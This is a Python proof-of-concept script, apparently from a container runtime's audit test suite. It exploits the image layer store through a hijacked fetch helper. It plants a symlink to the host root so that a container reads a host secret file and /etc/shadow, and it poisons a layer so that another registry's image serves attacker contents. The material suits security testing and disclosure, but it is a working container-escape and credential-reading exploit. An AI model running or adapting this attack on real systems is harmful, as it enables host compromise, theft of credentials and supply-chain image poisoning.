from harness import *
base = layer_tar(base_entries())
small = layer_tar([("etc", "d", None, 0o755), ("etc/passwd", "f", b"root:x:0:0:the real one:/root:/bin/sh\n", 0o644)])
hexs = lambda b: hashlib.sha256(b).hexdigest()
Path("/run/host-secret").write_text("TOP SECRET OF THE HOST\n"); os.chmod("/run/host-secret", 0o600)
with node() as (rt, client, pods):
    load(rt, "poc.example/base:1", [base])
    store = rt.directory / "images"
    json.dump({"partial": str(store / "staging" / "partial"),
               "poison": {"diffs": [hexs(small)]},                          # the diff id of somebody else's image, which is not here yet
               "link": {"diffs": [hexs(b"one"), hexs(b"two")]}}, open("/run/evil-plan.json", "w"))
    rt.stop()
    rt.settings["fetchHelper"] = "/nodens/tests/audit/evil_helper.py"
    client = rt.start(); pods.client = client; pods.pb, pods.runtime = client.pb, client.runtime
    for name in ("evil.example/poison:1", "evil.example/link:1"):
        try: print("pull by the taken-over helper:", client.pull(name)[:30])
        except Exception as e: print("pull by the taken-over helper is refused:", str(getattr(e, "details", lambda: e)())[:200])
    print("store:", subprocess.run(["ls", "-l", str(store / "layers")], capture_output=True, text=True).stdout)
    pod = pods.run(userns=False)
    # 2. the link: a later helper exchanges partial/evil/fs (it can write there), then the image is used as a volume
    evil = store / "staging/partial/evil"
    shutil.rmtree(evil / "fs", ignore_errors=True); evil.mkdir(parents=True, exist_ok=True); os.symlink("/", evil / "fs")
    try:
        m = pods.pb.Mount(container_path="/mnt", image=pods.pb.ImageSpec(image=pods.pull("evil.example/link:1")), readonly=True)
        one = pod.container(mounts=[m], name="b")
        r = one.execute("ls /mnt; cat /mnt/run/host-secret; cat /mnt/etc/shadow | head -2"); print("image volume of evil.example/link:1:", r.stdout, r.stderr)
    except Exception as e: print("b:", str(getattr(e, "details", lambda: e)())[:300])
    rt.stop(); del rt.settings["fetchHelper"]
    client = rt.start(); pods.client = client; pods.pb, pods.runtime = client.pb, client.runtime
    # 1. an honest image of another registry that has the layer: its contents are the attacker's
    load(rt, "honest.example/app:1", [small])
    pod = pods.run(userns=False, name='second')
    m = pods.pb.Mount(container_path="/mnt", image=pods.pb.ImageSpec(image=pods.pull("honest.example/app:1")), readonly=True)
    one = pod.container(mounts=[m], name="a")
    print("honest.example/app:1 has /etc/passwd:", one.execute("cat /mnt/etc/passwd").stdout.strip())
